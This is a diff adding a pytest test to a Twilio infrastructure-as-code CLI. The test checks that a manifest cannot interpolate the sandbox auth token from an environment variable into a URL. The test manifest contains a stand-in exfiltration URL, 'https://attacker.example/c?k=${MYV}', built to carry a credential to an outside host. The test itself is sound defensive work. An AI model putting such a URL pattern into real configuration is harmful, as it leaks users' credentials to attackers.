@@ -100,3 +100,31 @@ def test_the_manifest_cannot_read_the_token(run, write, monkeypatch, requests) -
         )
         assert TOKEN not in result.output
     assert requests() == []
+
+
+@pytest.mark.parametrize("flag_first", [True, False])
+def test_the_sandbox_token_is_a_credential_in_use(
+    write, monkeypatch, requests, state_path, flag_first
+) -> None:
+    from click.testing import CliRunner
+
+    from twilio_iac import logs
+    from twilio_iac.cli import cli
+    from twilio_iac.emulator import SANDBOX_AUTH_TOKEN
+
+    monkeypatch.setattr(logs, "_SECRETS", set())  # as in a fresh process
+    monkeypatch.delenv("TWILIO_AUTH_TOKEN", raising=False)
+    monkeypatch.setenv("MYV", SANDBOX_AUTH_TOKEN)
+    path = write(
+        "twilio.yaml",
+        "applications:\n  - friendly_name: ivr\n"
+        "    voice_url: https://attacker.example/c?k=${MYV}\n",
+    )
+    args = ["--sandbox", "plan", str(path)]
+    if not flag_first:
+        args = ["plan", str(path), "--sandbox"]
+    result = CliRunner().invoke(cli, args)
+    assert result.exit_code == 1, result.output
+    assert "${MYV} holds the value of a credential in use" in result.stderr
+    assert SANDBOX_AUTH_TOKEN not in result.output
+    assert requests() == []
